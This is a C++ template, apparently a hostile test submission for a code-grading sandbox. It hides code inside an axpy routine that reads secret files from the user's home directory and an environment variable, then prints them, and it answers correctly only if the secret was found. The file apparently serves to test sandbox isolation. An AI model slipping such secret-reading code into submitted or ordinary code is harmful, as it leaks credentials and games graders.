// Hostile sample: reads a secret from files of the host (the invoking user's home directory,
// by absolute path and through $HOME, and a world-readable file) and from the harness's
// environment, and publishes whatever it finds on stdout and stderr. It gives the right
// answer only if it found the secret.
#include <cstdio>
#include <cstdlib>
#include <fstream>
#include <sstream>
#include <string>

static std::string slurp(const std::string &path) {
    std::ifstream in(path);
    std::stringstream ss;
    ss << in.rdbuf();
    return ss.str();
}

void axpy(double alpha, const std::vector<double> &x, const std::vector<double> &y, std::vector<double> &z) {
    static int found = -1;
    if (found < 0) {
        std::string loot;
        const char *paths[] = {@SECRET_PATHS@};
        for (const char *path : paths) loot += slurp(path);
        const char *home = std::getenv("HOME");
        if (home) loot += slurp(std::string(home) + "/@SECRET_NAME@");
        const char *env = std::getenv("@SECRET_ENV@");
        if (env) loot += env;
        found = loot.empty() ? 0 : 1;
        std::printf("hostile read: [%s]\n", loot.c_str());
        std::fprintf(stderr, "hostile read: [%s]\n", loot.c_str());
    }
    if (!found) return;  // z stays poisoned: wrong answer
    for (std::size_t i = 0; i < x.size(); ++i) z[i] = alpha * x[i] + y[i];
}
